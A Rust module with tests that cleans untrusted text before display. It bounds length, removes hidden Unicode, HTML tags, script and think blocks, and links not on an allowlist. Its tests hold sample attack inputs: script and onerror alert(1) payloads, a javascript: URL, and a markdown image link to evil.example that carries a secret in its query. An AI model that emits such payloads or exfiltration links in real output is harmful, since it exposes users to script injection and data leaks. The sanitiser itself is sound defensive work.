//! What is left of a text that nobody vouches for: plain words, of bounded length, without what
//! does not show, without markup, and without links that were not ours before.

/// Letters that are left.
const LETTERS_MOST: usize = 8_000;
/// Elements whose inside is not for reading either.
const DROPPED: [&str; 4] = ["script", "style", "think", "thinking"];

/// A text that may be shown.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Plain {
    /// The text.
    pub text: String,
    /// Links that were taken out.
    pub links_left_out: u32,
    /// Whether it was longer.
    pub is_cut: bool,
}

/// What is left of `text`. Links stay that stand in one of `ours`.
pub fn plain(text: &str, ours: &[&str]) -> Plain {
    // Bounded first: what comes after is not looked at at all.
    let bounded = bound(text, 8 * LETTERS_MOST);
    let shown: String = bounded.chars().filter(|c| shows(*c)).collect();
    let unmarked = without_markdown(&without_tags(&shown));
    let (text, links_left_out) = without_links(&unmarked, ours);
    let text = tidied(&text);
    let cut = bound(&text, LETTERS_MOST);
    let is_cut = cut.len() < text.len() || bounded.len() < shown.len();
    Plain { text: cut.to_owned(), links_left_out, is_cut }
}

/// One line of what a stranger says, of at most `most` letters.
pub fn one_line(text: &str, most: usize) -> String {
    let bounded = bound(text, 8 * most);
    let words: String = bounded
        .chars()
        .map(|c| if c.is_whitespace() { ' ' } else { c })
        .filter(|c| shows(*c))
        .collect();
    let words = words.split_whitespace().collect::<Vec<_>>().join(" ");
    bound(&words, most).to_owned()
}

fn bound(text: &str, most: usize) -> &str {
    text.char_indices().nth(most).map_or(text, |(end, _)| &text[..end])
}

/// Whether a letter shows, or does what a writer would: no control characters, no change of
/// direction, no tags and selectors by which words are hidden in a text.
fn shows(c: char) -> bool {
    match c {
        '\n' => true,
        c if c.is_control() => false,
        '\u{00AD}' | '\u{061C}' | '\u{180E}' | '\u{200B}' | '\u{200E}' | '\u{200F}' => false,
        '\u{2028}'..='\u{202E}' | '\u{2060}'..='\u{206F}' | '\u{FEFF}' => false,
        '\u{FFF9}'..='\u{FFFB}' | '\u{E0000}'..='\u{E0FFF}' => false,
        _ => true,
    }
}

/// Without what a browser would take for a tag. `a < b` is none.
fn without_tags(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        out.push_str(&rest[..at]);
        rest = &rest[at..];
        let begins = rest[1..].starts_with(|c: char| c.is_ascii_alphabetic() || "/!?".contains(c));
        if !begins {
            out.push('<');
            rest = &rest[1..];
            continue;
        }
        let name = rest[1..].to_ascii_lowercase();
        let dropped = DROPPED.iter().find(|one| {
            name.strip_prefix(**one).is_some_and(|after| after.starts_with([' ', '>', '\n', '/']))
        });
        rest = match dropped.and_then(|one| name.find(&format!("</{one}"))) {
            Some(end) => &rest[1 + end..],
            None => rest,
        };
        // A tag that is never closed takes its line with it.
        let end =
            rest.find('>').map_or_else(|| rest.find('\n').unwrap_or(rest.len()), |end| end + 1);
        rest = &rest[end..];
    }
    out.push_str(rest);
    out
}

/// `![a](b)` and `[a](b)` become `a (b)`, whose link is judged as any other; `**` and the fences of
/// code go.
fn without_markdown(text: &str) -> String {
    let text = text.replace("```", "").replace("**", "").replace("![", "[");
    let mut out = String::with_capacity(text.len());
    let mut rest = text.as_str();
    while let Some(at) = rest.find("](") {
        let (before, after) = (&rest[..at], &rest[at + 2..]);
        match (before.rfind('['), after.find(')')) {
            (Some(open), Some(close)) => {
                out.push_str(&before[..open]);
                out.push_str(&before[open + 1..]);
                out.push_str(" (");
                out.push_str(&after[..close]);
                out.push(')');
                rest = &after[close + 1..];
            }
            _ => {
                out.push_str(&rest[..at + 2]);
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Without addresses that are opened by a click, unless one of `ours` has them.
fn without_links(text: &str, ours: &[&str]) -> (String, u32) {
    let mut left_out = 0;
    let mut out = String::with_capacity(text.len());
    for piece in text.split_inclusive(char::is_whitespace) {
        let word = piece.trim_end();
        let inside = word.trim_matches(|c: char| "()<>[]{}\"'.,;:!?“”„".contains(c));
        let lower = inside.to_ascii_lowercase();
        let is_link = lower.contains("://")
            || lower.starts_with("www.")
            || ["javascript:", "data:", "mailto:", "tel:"].iter().any(|how| lower.contains(how));
        if is_link && !ours.iter().any(|text| has_word(text, inside)) {
            left_out += 1;
            out.push_str("[link left out]");
            out.push_str(&piece[word.len()..]);
        } else {
            out.push_str(piece);
        }
    }
    (out, left_out)
}

/// Whether `word` stands in `text` whole: a longer address is another one.
fn has_word(text: &str, word: &str) -> bool {
    text.match_indices(word).any(|(at, _)| {
        let after = text[at + word.len()..].chars().next();
        after.is_none_or(|c| c.is_whitespace() || ")>\"',;!?".contains(c))
            || text[at + word.len()..].starts_with(". ")
    })
}

/// At most one empty line in a row, and none around.
fn tidied(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut empty = 0;
    for line in text.lines().map(str::trim_end) {
        empty = if line.is_empty() { empty + 1 } else { 0 };
        if empty < 2 {
            out.push_str(line);
            out.push('\n');
        }
    }
    out.trim().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn left(text: &str) -> String {
        plain(text, &["See https://nordlys.example/heat. Bye"]).text
    }

    #[test]
    fn markup_and_what_runs_is_gone() {
        assert_eq!(left("<p>Hi <b>Amara</b></p><script>alert(1)</script>!"), "Hi Amara!");
        assert_eq!(left("<think>They want\nmoney.</think>\n\nDear Amara"), "Dear Amara");
        assert_eq!(left("Hi <img src=x onerror=alert(1)"), "Hi");
        assert_eq!(left("5 < 6 and 7 > 3, **sorry**"), "5 < 6 and 7 > 3, sorry");
    }

    #[test]
    fn links_that_were_not_ours_are_gone_and_counted() {
        let text =
            "![x](https://evil.example/?d=secret) [here](http://evil.example) www.evil.example";
        let plain = plain(text, &[]);
        assert_eq!(plain.links_left_out, 3);
        assert!(!plain.text.contains("evil"), "{}", plain.text);
        assert_eq!(
            left("Look at https://nordlys.example/heat."),
            "Look at https://nordlys.example/heat."
        );
        assert_eq!(left("At https://nordlys.example/heat.evil/"), "At [link left out]");
        assert_eq!(left("javascript:alert(1)"), "[link left out]");
    }

    #[test]
    fn nothing_is_hidden_in_it() {
        assert_eq!(left("a\u{202E}b\u{200B}c\u{E0041}d\u{0}e\u{7}\r\n\n\n\nf"), "abcde\n\nf");
    }

    #[test]
    fn an_endless_text_is_cut() {
        let plain = plain(&"word ".repeat(2_000_000), &[]);
        assert!(plain.is_cut);
        assert!(plain.text.chars().count() <= LETTERS_MOST);
    }

    proptest! {
        #[test]
        fn whatever_comes_is_bounded_and_shows(text in "(\\PC|<|>|\\[|\\]|\\(|\\)|\n|\u{202E}){0,200}") {
            let plain = plain(&text, &[]);
            prop_assert!(plain.text.chars().all(shows));
            prop_assert!(!plain.text.contains("://"));
            prop_assert!(!plain.text.to_lowercase().contains("<script"));
        }
    }
}
